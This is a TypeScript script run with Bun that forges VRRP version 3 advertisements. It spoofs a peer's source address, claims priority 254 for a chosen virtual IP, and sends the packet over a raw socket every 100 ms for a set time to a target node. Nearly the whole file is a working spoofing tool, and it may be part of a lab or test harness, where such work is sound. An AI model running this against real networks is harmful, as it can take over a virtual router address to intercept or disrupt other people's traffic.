/**
 * Forged advertisements of VRRP: `bun advert-client.ts PLAN-AS-JSON`, run as root where the forger is. Sends one every 100 ms with the
 * source address of a peer, in the form of RFC 9568 (5.2).
 */
import { octets, rawSender } from "./raw-socket.ts";

export type AdvertPlan = {
  /** The node that is to believe it, and the peer that it pretends to be. */
  readonly to: string;
  readonly from: string;
  readonly vip: string;
  readonly vrid: number;
  readonly ttl: number;
  readonly seconds: number;
};

/** The highest that a node without the address of its own may have. */
const PRIORITY = 254;
const VRRP = 112;
const EVERY_MS = 100;

if (import.meta.main) {
  const plan = JSON.parse(process.argv[2] ?? "") as AdvertPlan;
  const send = rawSender(plan.to);
  const packet = advert(plan);
  const began = performance.now();
  let sent = 0;
  while (performance.now() - began < plan.seconds * 1000) {
    if (send(packet)) sent++;
    await Bun.sleep(EVERY_MS);
  }
  process.stdout.write(`${sent}\n`);
}

/** An IPv4 packet with an advertisement of VRRP 3; the kernel fills the IP checksum in (raw(7)). */
function advert({ from, to, vip, vrid, ttl }: AdvertPlan): Uint8Array {
  const packet = new Uint8Array(32);
  const view = new DataView(packet.buffer);
  view.setUint8(0, 0x45);
  view.setUint16(2, packet.length);
  view.setUint8(8, ttl);
  view.setUint8(9, VRRP);
  packet.set(octets(from), 12);
  packet.set(octets(to), 16);
  view.setUint8(20, 0x31);
  view.setUint8(21, vrid);
  view.setUint8(22, PRIORITY);
  view.setUint8(23, 1);
  view.setUint16(24, 100);
  packet.set(octets(vip), 28);
  // With the pseudo header: addresses, protocol and length.
  let sum = VRRP + (packet.length - 20);
  for (let at = 12; at < packet.length; at += 2) sum += view.getUint16(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  view.setUint16(26, ~sum & 0xffff);
  return packet;
}
